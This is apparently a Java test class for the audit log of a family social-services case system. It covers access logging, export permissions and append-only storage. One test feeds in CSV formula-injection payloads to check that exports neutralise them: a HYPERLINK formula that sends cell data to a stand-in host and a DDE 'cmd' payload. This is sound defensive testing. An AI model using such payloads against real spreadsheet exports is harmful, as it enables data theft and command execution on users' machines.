package org.consilium.audit;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;

import java.time.LocalDate;
import java.util.List;
import java.util.stream.Stream;
import org.consilium.account.UserAccount;
import org.consilium.agency.AgencyType;
import org.consilium.base.AuditEvent.Action;
import org.consilium.base.CsvWriter;
import org.consilium.base.ExportFormat;
import org.consilium.base.Languages;
import org.consilium.casefile.CaseService;
import org.consilium.casefile.CaseSheets;
import org.consilium.casefile.CaseStage;
import org.consilium.casefile.SharingService;
import org.consilium.family.FamilyDetails;
import org.consilium.family.FamilyService;
import org.consilium.family.MemberDetails;
import org.consilium.family.Relation;
import org.consilium.family.Sex;
import org.consilium.security.AppRoles;
import org.consilium.testing.ExportFiles;
import org.consilium.testing.MariaDbTest;
import org.consilium.testing.SignedIn;
import org.consilium.testing.StaffAccounts;
import org.consilium.testing.TestCases;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.dao.DataAccessException;
import org.springframework.data.domain.PageRequest;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.mock.web.MockHttpSession;
import org.springframework.security.access.AccessDeniedException;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.MockMvcRequestBuilders;

/** The audit log on MariaDB: what is recorded, who may read it, and that nobody can change it. */
@MariaDbTest
@AutoConfigureMockMvc
class AuditLogTest {

    @Autowired
    AuditLog audit;

    @Autowired
    CaseService cases;

    @Autowired
    CaseSheets sheets;

    @Autowired
    TestCases testCases;

    @Autowired
    SignedIn signedIn;

    @Autowired
    StaffAccounts staff;

    @Autowired
    JdbcTemplate jdbc;

    @Autowired
    MockMvc mvc;

    @Autowired
    FamilyService families;

    @Autowired
    SharingService sharing;

    private List<AuditRow> entries(String user, Action action) {
        return signedIn.as("admin", () -> audit.search(new AuditFilter(user, "", action, null, null), PageRequest.of(0, 50)).getContent());
    }

    private long count(String sqlCondition, Object... args) {
        return jdbc.queryForObject("SELECT COUNT(*) FROM audit_entry WHERE " + sqlCondition, Long.class, args);
    }

    @Test
    void opening_a_case_is_recorded_with_the_family_and_shown_as_who_has_opened_the_file() {
        long id = testCases.openCaseForDemoCurator();
        String colleague = staff.create("aud.", "Оксана Рибак", AppRoles.CURATOR, AgencyType.SOCIAL_SERVICES, "audit-pass-1");
        signedIn.as(colleague, () -> sheets.sheet(id));

        assertThat(count("case_id = ? AND action = 'VIEW' AND username = ?", id, colleague)).isEqualTo(1);
        assertThat(entries(colleague, Action.VIEW)).singleElement().satisfies(e -> {
            assertThat(e.entityType()).isEqualTo("case");
            assertThat(e.familyLabel()).isEqualTo("Савченко");
        });
        assertThat(signedIn.as("curator", () -> sheets.whoOpened(id, 20)))
                .extracting(o -> o.who()).contains("Оксана Рибак");
    }

    @Test
    void a_change_is_recorded_with_the_key_fields_old_and_new_values_in_its_own_transaction() {
        long id = testCases.openCaseForDemoCurator();
        long v = signedIn.as("curator", () -> sheets.sheet(id).orElseThrow().version());
        signedIn.as("curator", () -> cases.move(id, v, CaseStage.DECISION, "Особисті подробиці не копіюються"));

        List<String> details = jdbc.queryForList(
                "SELECT detail FROM audit_entry WHERE action = 'CHANGE' AND entity_type = 'FamilyCase' AND entity_id = ? ORDER BY id",
                String.class, id);
        assertThat(details).first().isEqualTo("created");
        assertThat(details).last().satisfies(d -> assertThat(d)
                .contains("stage: INITIAL_ASSESSMENT → DECISION")
                .contains("stageDueOn: ")
                .doesNotContain("Особисті"));
        assertThat(count("action = 'CHANGE' AND case_id = ? AND username = 'curator'", id)).isGreaterThanOrEqualTo(1);
    }

    @Test
    void refusals_are_recorded_for_a_role_that_may_not_call_and_for_another_teams_curator() {
        long id = testCases.openCaseForDemoCurator();
        long before = count("action = 'DENIED' AND username = 'school'");
        assertThatThrownBy(() -> signedIn.as("school", () -> sheets.sheet(id))).isInstanceOf(AccessDeniedException.class);
        assertThat(count("action = 'DENIED' AND username = 'school'")).isEqualTo(before + 1);
        assertThat(entries("school", Action.DENIED).getFirst().detail()).isEqualTo("CaseSheets.sheet(" + id + ")");

        String other = staff.create("oth.", "Чужий Куратор", AppRoles.CURATOR, AgencyType.SOCIAL_SERVICES, "other-team-1");
        long v = signedIn.as("curator", () -> sheets.sheet(id).orElseThrow().version());
        assertThatThrownBy(() -> signedIn.as(other, () -> cases.move(id, v, CaseStage.DECISION, null)))
                .isInstanceOf(AccessDeniedException.class);
        assertThat(count("action = 'DENIED' AND username = ? AND entity_type = 'case' AND entity_id = ?", other, id)).isEqualTo(1);
    }

    @Test
    void an_export_of_the_log_is_itself_recorded_and_only_supervisors_and_administrators_read_or_export_the_log() {
        AuditFilter views = new AuditFilter("", "", Action.VIEW, null, null);
        List<AuditRow> shown = search("supervisor", views).stream().limit(100).toList();
        List<List<String>> csv = ExportFiles.csv(export("supervisor", views, 100, ExportFormat.CSV));

        assertThat(csv.getFirst()).containsExactly("When", "User", "Action", "Record", "Record No.", "Family", "Family No.",
                "Case No.", "Details");
        assertThat(csv).hasSize(shown.size() + 1);
        assertThat(csv.subList(1, csv.size())).extracting(r -> r.get(1))
                .containsExactlyElementsOf(shown.stream().map(r -> CsvWriter.neutralised(r.username())).toList());
        assertThat(csv.subList(1, csv.size())).extracting(r -> r.get(2)).containsOnly("Opened");
        assertThat(entries("supervisor", Action.EXPORT)).first().satisfies(e -> {
            assertThat(e.entityType()).isEqualTo("audit");
            assertThat(e.detail()).startsWith("CSV; ").contains("action=VIEW").endsWith("rows " + shown.size());
        });

        List<Row> workbook = ExportFiles.workbook(export("supervisor", views, 100, ExportFormat.XLSX));
        assertThat(workbook).hasSize(shown.size() + 1);
        assertThat(workbook.subList(1, workbook.size())).extracting(r -> r.getCellText(1))
                .containsExactlyElementsOf(shown.stream().map(AuditRow::username).toList());
        assertThat(workbook.get(1).getCellAsDate(0)).as("a date cell").isPresent();

        for (String user : List.of("curator", "intake", "school", "family")) {
            assertThatThrownBy(() -> signedIn.as(user, () -> audit.search(AuditFilter.any(), PageRequest.of(0, 1))))
                    .as(user).isInstanceOf(AccessDeniedException.class);
        }
        long refused = count("action = 'DENIED' AND username = 'curator' AND detail LIKE 'AuditLog.export(%'");
        assertThatThrownBy(() -> export("curator", AuditFilter.any(), 100, ExportFormat.CSV)).isInstanceOf(AccessDeniedException.class);
        assertThat(count("action = 'DENIED' AND username = 'curator' AND detail LIKE 'AuditLog.export(%'")).isEqualTo(refused + 1);
    }

    private byte[] export(String reader, AuditFilter filter, int max, ExportFormat format) {
        return signedIn.as(reader, () -> ExportFiles.bytes(out -> audit.export(filter, max, format, Languages.ENGLISH, out)));
    }

    /** The CSV as a supervisor or administrator downloads it, filtered: its records, the header first. */
    private List<List<String>> csv(String reader, AuditFilter filter) {
        return ExportFiles.csv(export(reader, filter, 1000, ExportFormat.CSV));
    }

    private List<AuditRow> search(String reader, AuditFilter filter) {
        return signedIn.as(reader, () -> audit.search(filter, PageRequest.of(0, 500)).getContent());
    }

    @Test
    void a_supervisor_of_another_team_reads_only_their_own_staffs_entries_and_the_csv_holds_the_same() {
        long caseId = testCases.openCaseForDemoCurator();
        long familyId = jdbc.queryForObject("SELECT family_id FROM family_case WHERE id = ?", Long.class, caseId);
        signedIn.as("curator", () -> sheets.sheet(caseId));
        assertThatThrownBy(() -> signedIn.as("school", () -> sharing.shared(caseId))).isInstanceOf(AccessDeniedException.class);
        String otherSupervisor = staff.createInAnotherTeam("osup.", "Тарас Левчук", AppRoles.SUPERVISOR, "other-team-2");
        String otherCurator = staff.createBeside(otherSupervisor, "ocur.", "Ніна Гайова", AppRoles.CURATOR, "other-team-3");
        long kovalenko = jdbc.queryForObject("SELECT MIN(family_id) FROM family_member WHERE last_name = 'Коваленко'", Long.class);
        signedIn.as(otherCurator, () -> families.open(kovalenko));
        assertThatThrownBy(() -> signedIn.as(otherSupervisor, () -> sheets.sheet(caseId))).isInstanceOf(AccessDeniedException.class);

        AuditFilter savchenko = new AuditFilter("", "Савченко", null, null, null);
        assertThat(search("admin", savchenko)).extracting(AuditRow::caseId).contains(caseId);
        assertThat(search("supervisor", savchenko)).extracting(AuditRow::caseId).contains(caseId);
        assertThat(search("supervisor", new AuditFilter("school", "", Action.DENIED, null, null)))
                .as("the case's team sees who was refused its case").extracting(AuditRow::caseId).contains(caseId);
        assertThat(search(otherSupervisor, AuditFilter.any())).isNotEmpty()
                .allSatisfy(r -> assertThat(r.username()).isIn(otherSupervisor, otherCurator));
        assertThat(search(otherSupervisor, savchenko)).as("only their own refused attempt at the other team's case")
                .singleElement().satisfies(r -> {
                    assertThat(r.action()).isEqualTo(Action.DENIED);
                    assertThat(r.familyId()).isEqualTo(familyId);
                });
        assertThat(search(otherSupervisor, new AuditFilter("", "Коваленко", null, null, null)))
                .singleElement().satisfies(r -> {
                    assertThat(r.username()).isEqualTo(otherCurator);
                    assertThat(r.action()).isEqualTo(Action.VIEW);
                });
        assertThat(search("supervisor", new AuditFilter(otherCurator, "", null, null, null)))
                .as("the family's own team sees who opened its family").extracting(AuditRow::familyId).containsOnly(kovalenko);

        List<List<String>> theirs = csv(otherSupervisor, new AuditFilter("", "Коваленко", null, null, null));
        assertThat(theirs).hasSize(2);
        assertThat(theirs.get(1).get(1)).isEqualTo(otherCurator);
        assertThat(csv(otherSupervisor, savchenko)).hasSize(2);
        assertThat(csv("supervisor", savchenko)).extracting(r -> r.get(1)).contains("curator");
    }

    @Test
    void every_cell_that_a_spreadsheet_would_run_as_a_formula_is_made_inert_in_the_csv() throws Exception {
        String marker = SignedIn.unique("x");
        List<String> typed = List.of("=HYPERLINK(\"http://ev.il/?\"&B2)", "+1+cmd|' /C calc'!A0",
                "-2+3", "@SUM(1+1)", "\tTAB", "\rCR");
        for (String name : typed) {
            if (Character.isWhitespace(name.charAt(0))) {
                // The sign-in form trims what is typed; an entry written otherwise could still start so.
                jdbc.update("INSERT INTO audit_entry (at, username, action, entity_type) VALUES (CURRENT_TIMESTAMP, ?, 'SIGN_IN_FAILED', 'account')",
                        name + marker);
            } else {
                mvc.perform(post("/login").param("username", name + marker).param("password", "wrong").with(csrf()));
            }
        }
        FamilyDetails evil = new FamilyDetails();
        evil.setMembers(List.of(new MemberDetails("=Коваль" + marker, "Ліна",
                LocalDate.parse("1990-01-01"), Sex.FEMALE, Relation.MOTHER)));
        long evilFamily = signedIn.as("intake", () -> families.register(evil, true)).getId();
        signedIn.as("curator", () -> families.open(evilFamily));

        List<List<String>> byName = csv("admin", new AuditFilter(marker, "", Action.SIGN_IN_FAILED, null, null));
        List<List<String>> byFamily = csv("admin", new AuditFilter("", marker, Action.VIEW, null, null));
        List<List<String>> rows = Stream.concat(byName.stream().skip(1), byFamily.stream().skip(1)).toList();
        assertThat(rows).hasSize(typed.size() + 1);
        assertThat(rows).extracting(r -> r.get(1)).filteredOn(u -> u.contains(marker)).hasSize(typed.size())
                .allSatisfy(u -> assertThat(u).startsWith("'"));
        assertThat(rows).extracting(r -> r.get(5)).filteredOn(f -> f.contains(marker)).singleElement()
                .satisfies(f -> assertThat(f).startsWith("'=Коваль"));
        assertThat(rows).flatExtracting(r -> r).noneSatisfy(cell -> assertThat(cell).matches("(?s)^[=+\\-@\t\r].*"));
    }

    @Test
    void a_failed_sign_in_keeps_the_typed_name_cut_to_the_length_of_an_account_name() throws Exception {
        String marker = SignedIn.unique("long");
        mvc.perform(post("/login").param("username", marker + "y".repeat(300)).param("password", "wrong").with(csrf()));
        String kept = jdbc.queryForObject("SELECT username FROM audit_entry WHERE username LIKE ? AND action = 'SIGN_IN_FAILED'",
                String.class, marker + "%");
        assertThat(kept).hasSize(UserAccount.USERNAME_MAX + 1).endsWith("y…");
    }

    @Test
    void signing_in_failing_to_and_signing_out_through_the_real_filter_chain_are_recorded() throws Exception {
        String user = staff.create("sio.", "Вхід Вихід", AppRoles.HEALTH, AgencyType.HEALTH, "sign-in-out-1");
        mvc.perform(post("/login").param("username", user).param("password", "wrong").with(csrf()));
        MockHttpSession session = (MockHttpSession) mvc.perform(post("/login").param("username", user)
                .param("password", "sign-in-out-1").with(csrf())).andReturn().getRequest().getSession();
        mvc.perform(post("/logout").session(session).with(csrf()));

        assertThat(jdbc.queryForList("SELECT action FROM audit_entry WHERE username = ? ORDER BY id", String.class, user))
                .containsSubsequence("SIGN_IN_FAILED", "SIGN_IN", "SIGN_OUT");
    }

    @Test
    void a_web_address_refused_to_a_signed_in_user_is_recorded_with_its_method_and_path() throws Exception {
        String user = staff.create("adr.", "Адреса Відмова", AppRoles.CURATOR, AgencyType.SOCIAL_SERVICES, "address-pass-1");
        MockHttpSession session = (MockHttpSession) mvc.perform(post("/login").param("username", user)
                .param("password", "address-pass-1").with(csrf())).andReturn().getRequest().getSession();
        int status = mvc.perform(MockMvcRequestBuilders.get("/actuator/env")
                .queryParam("q", "Коваленко").session(session)).andReturn().getResponse().getStatus();

        assertThat(status).isEqualTo(403);
        assertThat(jdbc.queryForList("SELECT CONCAT(entity_type, ' ', detail) FROM audit_entry WHERE username = ? AND action = 'DENIED'",
                String.class, user)).containsExactly("address GET /actuator/env");
    }

    @Test
    void the_application_cannot_change_or_remove_an_audit_entry() {
        long id = testCases.openCaseForDemoCurator();
        signedIn.as("curator", () -> sheets.sheet(id));
        long entry = jdbc.queryForObject("SELECT MAX(id) FROM audit_entry WHERE case_id = ?", Long.class, id);

        assertThatThrownBy(() -> jdbc.update("UPDATE audit_entry SET username = 'someone-else' WHERE id = ?", entry))
                .isInstanceOf(DataAccessException.class).hasMessageContaining("append-only");
        assertThatThrownBy(() -> jdbc.update("DELETE FROM audit_entry WHERE id = ?", entry))
                .isInstanceOf(DataAccessException.class).hasMessageContaining("append-only");
        assertThat(jdbc.queryForObject("SELECT username FROM audit_entry WHERE id = ?", String.class, entry)).isEqualTo("curator");
    }
}
